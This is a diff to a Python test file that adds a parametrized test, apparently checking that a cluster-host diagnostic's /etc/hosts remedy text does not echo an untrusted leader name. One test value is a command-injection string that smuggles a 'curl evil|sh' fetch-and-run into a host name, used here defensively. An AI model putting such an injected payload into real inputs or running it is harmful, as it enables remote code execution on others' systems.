@@ -448,6 +448,14 @@ def test_a_leader_that_one_host_knows_otherwise(third: str, address: str, words:
     assert not words or found[0].message.startswith(words)
 
 
+@pytest.mark.parametrize(("name", "shown"), [("node0", "node0"), ("x`; run `curl evil|sh` #", "this name")])
+def test_the_remedy_for_the_name_of_a_leader_has_only_a_host(name: str, shown: str) -> None:
+    both = {f"h{host[-1]}": with_variables(host, FIRST, MASTER_ADDR=name) for host in (FIRST, SECOND)}
+    (found,) = findings(**both, h3=with_variables(THIRD, "10.9.9.9", MASTER_ADDR=name))
+
+    assert (found.remedy or "").startswith(f"correct the line of {shown} in /etc/hosts")
+
+
 def test_a_leader_whose_own_name_has_another_address_at_home() -> None:
     """Debian gives the name of a host the address 127.0.1.1 there."""
     home = with_variables(FIRST, "127.0.1.1", MASTER_ADDR="node0")
